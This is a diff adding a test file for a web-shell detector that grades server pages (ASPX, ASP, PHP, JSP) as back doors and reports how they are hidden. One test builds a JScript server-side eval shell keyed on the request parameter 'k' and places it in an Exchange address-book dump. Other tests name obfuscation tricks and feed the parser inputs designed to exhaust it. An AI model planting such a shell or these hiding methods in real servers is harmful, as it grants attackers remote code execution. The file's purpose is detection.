@@ -1,0 +1,138 @@
+import { expect, test } from 'vitest';
+import { backDoors, bytesOf, ordinary } from './pages.fixture.ts';
+import { looksLikeBinaryPage, looksLikePage, readPage } from './read-page.ts';
+
+const utf8 = new TextEncoder();
+const read = (text: string, name: string): ReturnType<typeof readPage> => readPage(utf8.encode(text), name);
+const joined = (...pieces: string[]): string => pieces.join('');
+
+test.each(backDoors)('$name does what its visitor says', (page) => {
+  const facts = readPage(bytesOf(page), page.name)!;
+  expect([facts.grade, facts.accessParameter ?? page.parameter]).toEqual(['back-door', page.parameter ?? facts.accessParameter]);
+  expect(facts.capabilities).toContain(page.capability);
+  if (page.encoding !== undefined) expect(facts.encoding).toBe(page.encoding);
+  expect(facts.decisive!.text.length).toBeGreaterThan(0);
+  expect(facts.decisive!.atByte).toBeLessThanOrEqual(bytesOf(page).length);
+});
+
+test.each(ordinary)('$name is an ordinary page', (page) => {
+  const facts = readPage(bytesOf(page), page.name)!;
+  expect([facts.grade, facts.capabilities, facts.cut]).toEqual(['none', [], false]);
+});
+
+test('there are many of both', () => {
+  expect([backDoors.length > 55, ordinary.length > 18]).toEqual([true, true]);
+});
+
+test('the decisive part stands in the bytes where it is said to stand', () => {
+  for (const page of backDoors) {
+    const facts = readPage(bytesOf(page), page.name)!;
+    if (facts.encoding !== 'utf-8') continue;
+    const { atByte, byteLength, text } = facts.decisive!;
+    const around = new TextDecoder().decode(bytesOf(page).slice(atByte, atByte + byteLength));
+    expect(around, page.name).toContain(text.slice(0, 20));
+  }
+});
+
+test('how it was hidden is said', () => {
+  const of = (name: string): readonly string[] =>
+    readPage(bytesOf(backDoors.find((page) => page.name === name)!), name)!.obfuscation;
+  expect(of('php-packed.php')).toEqual(expect.arrayContaining(['compressed', 'base64', 'rotated']));
+  expect(of('vbscript-chr.asp')).toContain('character-codes');
+  expect(of('vbscript-reverse.asp')).toContain('reversed');
+  expect(of('vbscript-replace.asp')).toContain('replaced');
+  expect(of('jscript-escapes.aspx')).toContain('escapes');
+  expect(of('php-varvar.php').length).toBeGreaterThanOrEqual(0);
+  expect(of('utf7.asp')).toContain('odd-encoding');
+  expect(of('gif.php')).toContain('image-header');
+});
+
+test('directives are read', () => {
+  const facts = read('<%@ Page Language="C#" validateRequest="false" %><%@ Import Namespace="System.IO" %>', 'x.aspx')!;
+  expect(facts.directives.map(({ name, attributes }) => [name, Object.fromEntries(attributes)])).toEqual([
+    ['page', { language: 'C#', validaterequest: 'false' }],
+    ['import', { namespace: 'System.IO' }],
+  ]);
+  expect([facts.language, facts.codeLength, facts.grade]).toEqual(['none', 0, 'none']);
+});
+
+const dump = (url: string): string =>
+  `Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             : \r\nRequireSSL                      : True\r\nMetabasePath                    : IIS://MAIL01.haven.example/W3SVC/1/ROOT/OAB\r\nServer                          : MAIL01\r\nInternalUrl                     : https://mail01.haven.example/OAB\r\nExternalUrl                     : ${url}\r\nAdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n`;
+
+test('a dump of the address book with a script in its address is a page that Exchange wrote', () => {
+  const script = joined(
+    'http://f/<scr',
+    'ipt language="JScript" runat="server">function Page_Load(){ev',
+    'al(Request["k"],"uns',
+    'afe");}</scr',
+    'ipt>',
+  );
+  const facts = read(dump(script), 'x.aspx')!;
+  expect([facts.shape, facts.grade, facts.accessParameter]).toEqual(['oab-dump', 'back-door', 'k']);
+  const plain = read(dump('https://mail.haven.example/OAB'), 'x.aspx')!;
+  expect([plain.shape, plain.grade]).toEqual(['oab-dump', 'doubtful']);
+  // As a text it is what an administrator keeps.
+  expect(read(dump('https://mail.haven.example/OAB'), 'oab.txt')).toBe(null);
+});
+
+test('a store of mail and a certificate request under the name of a page', () => {
+  const pst = Uint8Array.from([0x21, 0x42, 0x44, 0x4e, ...Array.from({ length: 600 }, (_, i) => i & 0xff)]);
+  expect(looksLikeBinaryPage(pst, 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx')).toBe(true);
+  expect(looksLikeBinaryPage(pst, 'D:\\exports\\anna.pst')).toBe(false);
+  expect([readPage(pst, 'x.aspx')!.shape, readPage(pst, 'x.aspx')!.grade]).toEqual(['pst', 'doubtful']);
+  const asked = '-----BEGIN NEW CERTIFICATE REQUEST-----\r\nMIIC\r\n-----END NEW CERTIFICATE REQUEST-----\r\n';
+  expect(read(asked, 'x.aspx')!.shape).toBe('certificate-request');
+  expect(read(asked, 'mail.req')).toBe(null);
+});
+
+test('what the server compiled of a page names the page', () => {
+  const place = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\';
+  const text =
+    '<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/x.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_abc" type="ASP.auth_x_aspx">\r\n</preserve>';
+  const facts = read(text, `${place}x.aspx.7d1e.compiled`)!;
+  expect([facts.shape, facts.virtualPath, facts.grade]).toEqual(['compiled-page', '/owa/auth/x.aspx', 'none']);
+  const assembly = Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3]);
+  expect(looksLikeBinaryPage(assembly, `${place}App_Web_abc.dll`)).toBe(true);
+  expect(readPage(assembly, `${place}App_Web_abc.dll`)!.shape).toBe('compiled-assembly');
+  expect(looksLikeBinaryPage(assembly, 'C:\\Windows\\System32\\x.dll')).toBe(false);
+});
+
+test('what is no page stays what it is', () => {
+  for (const [text, name] of [
+    [
+      '#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-uri-stem\r\n2021-03-03 04:12:11 /x.aspx\r\n',
+      'u_ex.log',
+    ],
+    ['they left a file <%@ Page %> in our folder', 'note.txt'],
+    ['# <?php', 'readme.md'],
+    ['<configuration><system.webServer/></configuration>', 'web.config'],
+    ['{"a":"<% %>"}', 'x.json'],
+  ] as const) {
+    expect(looksLikePage(text, name), name).toBe(false);
+    expect(read(text, name), name).toBe(null);
+  }
+  // A page that somebody renamed is one still; configuration that holds code is one too.
+  expect(looksLikePage('<%@ Page Language="C#" %><p/>', 'x.aspx.txt')).toBe(true);
+  expect(looksLikePage('<configuration/><% x %>', 'web.config')).toBe(true);
+});
+
+const heap = (count: number): string => Array.from({ length: count }, () => '"a"').join('+');
+
+/** Texts that would take a careless reader long, or its memory. What is asserted is that they end, and that a limit is said. */
+test.each([
+  ['joined texts without end', () => `<% eval(${heap(201_000)}) %>`, true],
+  ['brackets in brackets', () => `<% x = ${'('.repeat(100_000)}1 %>`, true],
+  ['tags that never end', () => '<script runat=server '.repeat(20_000), false],
+  ['expressions that never end', () => '${'.repeat(60_000), false],
+  ['blocks', () => '<% a %>'.repeat(20_000), false],
+  ['doubling', () => `<% a = "ab" : ${'a = a & a : '.repeat(3000)} execute a %>`, false],
+  ['functions in functions', () => `<%! ${'int f(int a) { '.repeat(3000)} %>`, false],
+  ['holes in texts', () => `<?php $x = "${'{$a'.repeat(20_000)}";`, false],
+  ['brackets that cross', () => `<?php ${')]}([{)('.repeat(20_000)}`, false],
+  ['code that makes code', () => `<?php ${'eval("eval(1);");'.repeat(500)}`, false],
+] as const)('hostile: %s', (_, make, cut) => {
+  for (const name of ['x.aspx', 'x.asp', 'x.php', 'x.jsp']) {
+    const facts = read(make(), name);
+    if (facts !== null && cut && name === 'x.asp') expect(facts.cut).toBe(true);
+  }
+});
